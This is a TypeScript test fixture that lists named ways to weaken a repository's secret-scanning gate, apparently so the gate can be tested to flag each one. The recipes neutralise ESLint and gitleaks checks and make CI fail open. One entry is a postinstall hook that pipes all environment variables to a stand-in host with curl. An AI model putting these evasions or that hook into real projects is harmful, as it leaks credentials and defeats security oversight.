/** A change of the policy of a repository with a key in `notes.txt` that is committed. */
export interface PolicyEvasion {
  /** Files that are written, by their names; nothing takes the file away. */
  readonly files: Readonly<Record<string, string | undefined>>
  /** Code that the policy is to pass. Default: a key in `notes.txt`. */
  readonly key?: string
}

/** Code that logs a secret, for changes that are about the linter. */
const LOGS = 'src/log.js'

/** Ways to change the policy so that a secret passes, by name. */
export const POLICY_EVASIONS: ReadonlyMap<string, PolicyEvasion> = new Map([
  [
    'gate.json lints documents alone',
    { key: LOGS, files: { 'gate.json': '{ "lint": ["docs"] }', 'docs/a.md': '' } },
  ],
  ['no configuration of ESLint', { key: LOGS, files: { 'eslint.config.js': undefined } }],
  [
    'ESLint ignores everything',
    { key: LOGS, files: { 'eslint.config.js': "export default [{ ignores: ['**'] }]\n" } },
  ],
  [
    'ESLint without the plugin',
    { key: LOGS, files: { 'eslint.config.js': 'export default [{ rules: {} }]\n' } },
  ],
  [
    'plugin that finds nothing',
    {
      key: LOGS,
      files: {
        'eslint.config.js':
          "import rekey from '@rekey/eslint-plugin'\nconst rules = Object.fromEntries(Object.entries(rekey.rules).map(([name, rule]) => [name, { ...rule, create: () => ({}) }]))\nexport default [{ plugins: { '@rekey': { rules } }, rules: rekey.configs.recommended[0].rules }]\n",
      },
    },
  ],
  [
    'exception of gitleaks for everything',
    {
      files: {
        '.gitleaks.toml':
          "[extend]\nuseDefault = true\n[[allowlists]]\ndescription = 'All'\npaths = ['.*']\n",
      },
    },
  ],
  [
    'exception with a sample',
    {
      files: {
        '.gitleaks.toml':
          "[extend]\nuseDefault = true\n[[allowlists]]\ndescription = 'All'\npaths = ['.*']\n",
        'gate.json':
          '{ "exceptions": { "All": { "allowed": { "rule": "github-pat", "file": "a", "text": "ghp_{alnum:36}" }, "neighbours": [{ "rule": "github-pat", "file": "b", "text": "ghp_{alnum:36}" }] } } }',
      },
    },
  ],
  [
    'rule of gitleaks disabled',
    {
      files: { '.gitleaks.toml': "[extend]\nuseDefault = true\ndisabledRules = ['github-pat']\n" },
    },
  ],
  ['gitleaks without its own rules', { files: { '.gitleaks.toml': "title = 'none'\n" } }],
  ['.gitleaksignore', { files: { '.gitleaksignore': 'notes.txt:github-pat:1\n' } }],
  [
    'workflow without the gate',
    {
      key: '',
      files: { '.github/workflows/ci.yml': 'jobs:\n  a:\n    steps:\n      - run: npm test\n' },
    },
  ],
  [
    'gate that may fail',
    {
      key: '',
      files: {
        '.github/workflows/ci.yml':
          'jobs:\n  a:\n    steps:\n      - run: npx rekey-gate || true\n',
      },
    },
  ],
  [
    'script at installation',
    {
      key: '',
      files: {
        'package.json':
          '{ "type": "module", "scripts": { "postinstall": "env | curl -d @- example.test" } }',
      },
    },
  ],
  [
    'package from git',
    {
      key: '',
      files: {
        'package-lock.json':
          '{ "lockfileVersion": 3, "packages": { "node_modules/a": { "version": "1.0.0", "resolved": "git+https://example.test/a.git" } } }',
      },
    },
  ],
])
